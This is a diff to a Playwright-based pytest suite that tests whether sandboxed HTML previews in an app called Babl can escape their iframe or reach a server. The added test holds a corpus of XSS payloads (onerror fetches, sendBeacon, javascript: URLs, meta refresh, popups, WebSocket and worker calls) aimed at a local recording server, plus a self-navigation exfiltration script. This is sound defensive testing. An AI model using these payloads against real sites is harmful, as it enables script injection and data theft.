@@ -15,6 +15,7 @@ from pathlib import Path
 
 import pytest
 
+from babl_core import page_policy
 from babl_core.render import SANDBOX, preview_document, sandbox_for
 from babl_core.settings import REPO_ROOT
 from tests.servers import chainlit_server, launch_chromium, require_playwright
@@ -30,6 +31,7 @@ class RecordingServer:
 
     def __init__(self) -> None:
         self.page = ""
+        self.policy = ""  # the Content-Security-Policy header of `/`: the app page's, as Babl sends it
         self.requests: list[str] = []
         owner = self
 
@@ -41,6 +43,8 @@ class RecordingServer:
                     self.send_response(200)
                     self.send_header("Content-Type", "text/html; charset=utf-8")
                     self.send_header("Set-Cookie", "babl_secret=s3cret; Path=/")
+                    if owner.policy:
+                        self.send_header("Content-Security-Policy", owner.policy)
                 else:
                     body = b"/* leaked */"
                     self.send_response(200)
@@ -140,10 +144,11 @@ def browser():
         chromium.close()
 
 
-def load(browser, server, page_html: str):
-    """Opens `page_html` served at `/`, waits for the frame and anything it may try later, and
-    returns (page, leaked paths, console messages)."""
+def load(browser, server, page_html: str, *, policy: str = ""):
+    """Opens `page_html` served at `/` (with `policy` as its Content-Security-Policy header), waits
+    for the frame and anything it may try later, and returns (page, leaked paths, console messages)."""
     server.page = page_html
+    server.policy = policy
     server.requests.clear()
     context = browser.new_context()
     page = context.new_page()
@@ -156,13 +161,18 @@ def load(browser, server, page_html: str):
 
 
 def test_hostile_page_renders_but_reaches_nothing(browser, server):
+    # Under the app page's own policy, which a srcdoc frame inherits on top of the preview's.
     document = preview_document(hostile_page(server.port))
-    context, page, leaks, console = load(browser, server, embedding_page(document, SANDBOX))
+    policy = page_policy.policy(preview_scripts=False)
+    context, page, leaks, console = load(browser, server, embedding_page(document, SANDBOX), policy=policy)
     try:
         frame = page.frame_locator("#preview")
         headline = frame.locator("h1#headline")
         headline.wait_for(state="visible", timeout=5000)
         assert headline.inner_text() == "Hostile page rendered"  # no script changed it
+        assert (
+            headline.evaluate("h => getComputedStyle(h).color") == "rgb(17, 170, 85)"
+        )  # its <style> applies
         assert frame.locator("#status").inner_text() == "untouched"
         assert frame.locator("#handler").inner_text() == "untouched"  # no inline handler either
         assert page.title() == "host page"
@@ -185,11 +195,15 @@ def test_with_scripts_on_scripts_run_but_still_reach_nothing(browser, server):
     """Proves the checks above can fail (the same page with scripts allowed does run its script),
     and that the CSP still stops every request and the opaque origin still hides the cookie."""
     document = preview_document(hostile_page(server.port), allow_scripts=True)
-    context, page, leaks, _ = load(browser, server, embedding_page(document, sandbox_for(True)))
+    policy = page_policy.policy(preview_scripts=True)  # BABL_PREVIEW_SCRIPTS=1's app page
+    context, page, leaks, _ = load(
+        browser, server, embedding_page(document, sandbox_for(True)), policy=policy
+    )
     try:
         frame = page.frame_locator("#preview")
         frame.locator("h1#headline").wait_for(state="visible", timeout=5000)
         assert frame.locator("h1#headline").inner_text() == "script ran"
+        assert frame.locator("h1#headline").evaluate("h => getComputedStyle(h).color") == "rgb(17, 170, 85)"
         status = frame.locator("#status").inner_text()
         assert status.startswith("cookie blocked: SecurityError"), status
         assert frame.locator("#handler").inner_text() == "handler ran"
@@ -208,6 +222,74 @@ def test_control_without_our_document_the_sandbox_alone_leaks(browser, server):
         assert "/leak-stylesheet" in leaks
     finally:
         context.close()
+
+
+# Ways out of a preview, one per frame ({leak}: the recording server's URL, {port}: its port). A frame
+# navigating itself is left out: scripts on, nothing stops it (see the test after this one).
+XSS_VECTORS = [
+    """<img src=x onerror="fetch('{leak}img-onerror')">""",
+    """<svg onload="new Image().src='{leak}svg-onload'"></svg>""",
+    """<body onload="navigator.sendBeacon('{leak}beacon')">""",
+    """<iframe srcdoc="<img src={leak}nested-srcdoc>"></iframe>""",
+    """<iframe src="javascript:fetch('{leak}javascript-url')"></iframe>""",
+    """<img srcset="{leak}srcset 1x">""",
+    """<picture><source srcset="{leak}picture"><img alt=p></picture>""",
+    """<video poster="{leak}poster"></video>""",
+    """<input type=image src="{leak}input-image">""",
+    """<embed src="{leak}embed">""",
+    """<object data="{leak}object"></object>""",
+    """<link rel=prefetch href="{leak}prefetch"><link rel=icon href="{leak}icon">""",
+    """<style>@import "{leak}import";</style>""",
+    """<div style="background-image:url({leak}inline-style)">x</div>""",
+    """<svg><image href="{leak}svg-image"/></svg>""",
+    """<math><mtext><img src="{leak}math"></mtext></math>""",
+    """<meta http-equiv=refresh content="0;url={leak}refresh">""",
+    """<form action="{leak}form"><button id=b>go</button></form><script>b.click()</script>""",
+    """<script>top.location = "{leak}top-navigation"</script>""",
+    """<script>window.open("{leak}popup")</script>""",
+    """<script>try {{ parent.document.title = "owned" }} catch (e) {{}}</script>""",
+    """<script>new Worker("data:text/javascript,fetch('{leak}worker')")</script>""",
+    """<script>new WebSocket("ws://127.0.0.1:{port}/websocket")</script>""",
+    """<script>import("{leak}dynamic-import")</script>""",
+    """<script>document.write("<img src={leak}document-write>")</script>""",
+    """<script>new EventSource("{leak}event-source")</script>""",
+]
+
+
+@pytest.mark.parametrize("scripts", [False, True], ids=["scripts-off", "BABL_PREVIEW_SCRIPTS=1"])
+def test_xss_corpus_reaches_nothing_under_the_app_page_policy(browser, server, scripts):
+    frames = "".join(
+        f'<iframe sandbox="{html.escape(sandbox_for(scripts))}" '
+        f'srcdoc="{html.escape(preview_document(vector.format(leak=server.url, port=server.port), allow_scripts=scripts))}">'
+        "</iframe>"
+        for vector in XSS_VECTORS
+    )
+    host = f"<!DOCTYPE html><html><head><title>host page</title><link rel='icon' href='data:,'></head><body>{frames}</body></html>"
+    context, page, leaks, _ = load(browser, server, host, policy=page_policy.policy(preview_scripts=scripts))
+    try:
+        assert leaks == [], f"a preview reached the server: {leaks}"
+        assert page.title() == "host page" and page.url == server.url
+        assert len(context.pages) == 1  # no popup
+    finally:
+        context.close()
+
+
+def test_with_scripts_on_a_preview_can_navigate_its_own_frame(browser, server):
+    """What README says of BABL_PREVIEW_SCRIPTS=1: a preview's script can still send its frame to
+    another address (no sandbox flag or policy forbids a frame navigating itself); without scripts it
+    cannot. The app page and other previews stay as they were."""
+    page_html = f'<h1>page</h1><script>location.href = "{server.url}self-navigation?text=" + document.body.innerText</script>'
+    for scripts, expected in ((False, []), (True, ["/self-navigation?text=page"])):
+        document = preview_document(page_html, allow_scripts=scripts)
+        policy = page_policy.policy(preview_scripts=scripts)
+        context, page, leaks, _ = load(
+            browser, server, embedding_page(document, sandbox_for(scripts)), policy=policy
+        )
+        try:
+            assert leaks == expected
+            assert page.title() == "host page"
+        finally:
+            context.close()
 
 
 # --- the real custom element in Chainlit ------------------------------------------------------
@@ -240,11 +322,13 @@ def test_html_preview_element_in_chainlit(browser, server, chainlit_app):
     context = browser.new_context(accept_downloads=True, viewport={"width": 1280, "height": 900})
     page = context.new_page()
     try:
-        page.goto(chainlit_app)
+        response = page.goto(chainlit_app)
+        assert "img-src 'self' data: blob:" in response.headers.get("content-security-policy", "")
         preview = page.get_by_test_id("html-preview")
         expect(preview).to_have_count(1, timeout=30000)
         frame = preview.frame_locator("iframe")
         expect(frame.locator("h1#headline")).to_have_text("Hostile page rendered", timeout=10000)
+        expect(frame.locator("body")).to_have_css("background-color", "rgb(238, 238, 255)")  # styles apply
         expect(frame.locator("#last")).to_have_count(0)  # the streamed part only
         expect(preview).to_contain_text("streaming")
         download_button = preview.get_by_role("button", name="Download .html")
